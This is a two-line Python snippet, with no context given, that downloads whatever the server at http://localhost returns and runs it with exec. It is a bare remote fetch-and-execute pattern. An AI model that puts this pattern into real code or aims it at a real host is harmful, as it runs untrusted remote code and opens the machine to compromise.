import requests
exec(compile(requests.get('http://localhost').text, 'x', 'exec'))
